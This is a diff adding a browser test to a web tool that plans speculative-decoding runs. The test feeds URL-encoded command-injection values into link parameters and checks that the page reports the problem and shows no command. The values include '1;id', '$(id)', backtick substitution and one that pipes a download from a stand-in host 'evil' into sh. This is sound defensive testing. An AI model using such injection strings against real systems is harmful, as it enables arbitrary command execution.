@@ -97,6 +97,18 @@ test("decide shows what specsim plan says, and follows its sliders", async () =>
   await accessible(page, "decide");
 });
 
+test("a link with settings that are none shows what is wrong, and no command", async () => {
+  for (const link of ["decide?longest=10%3B%20curl%20evil%20%7C%20sh%20%23", "decide?gpus=1%3Bid", "decide?batch=%24(id)", "decide?hardware=%60id%60", "serve?requests=300%3Bid", "serve?policy=fixed%3A3%3Bid", "landscape?alpha=0.7%3Bid", "step?seed=1%3Bid"]) {
+    await page.goto("about:blank");
+    await page.goto(`${address}#${link}`);
+    await page.waitForSelector("main .problem");
+    assert.match(await page.textContent("main .problem"), /^The address says [a-z]+: ".*", allowed: /);
+    assert.equal(await page.locator(".command, .verdict").count(), 0, link);
+  }
+  await page.click("main a");
+  await page.waitForSelector(".results .verdict", { timeout: 60000 });
+});
+
 test("decide takes rates as a log has them, and says what is wrong with them", async () => {
   await view("decide?acceptance=position_rates&rates=70%25,45%25,31%25&longest=6");
   const told = csv(run(["plan", "--hardware", "h100-sxm", "--target", "llama-3.1-8b", "--draft", "llama-3.2-1b", "--longest", "6", "--position-rates", "0.7,0.45,0.31"], ["plan.csv"])["plan.csv"]);
